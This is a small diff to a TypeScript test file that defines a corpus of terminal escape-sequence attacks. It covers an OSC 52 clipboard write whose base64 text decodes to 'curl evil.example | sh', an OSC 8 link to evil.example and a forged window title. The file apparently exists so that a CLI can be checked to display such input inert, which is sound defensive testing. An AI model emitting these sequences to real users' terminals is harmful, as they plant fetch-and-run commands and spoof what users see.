@@ -260,7 +260,7 @@ export const HOSTILE_CORPUS: readonly HostileMessage[] = [
  * elsewhere, retitle the window, or erase a line and print a forged one — or to reorder what it
  * shows. The CLI's human output must show all of it inert; its JSON must keep it exact.
  */
-export const TERMINAL_ATTACKS: readonly { readonly name: string; readonly text: string }[] = [
+const TERMINAL_ATTACKS: readonly { readonly name: string; readonly text: string }[] = [
   { name: "OSC 52 clipboard write", text: "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007" },
   { name: "OSC 8 link", text: "\u001b]8;;https://evil.example/\u001b\\docs\u001b]8;;\u001b\\" },
   { name: "window title", text: "\u001b]0;ricochet: all delivered\u0007" },
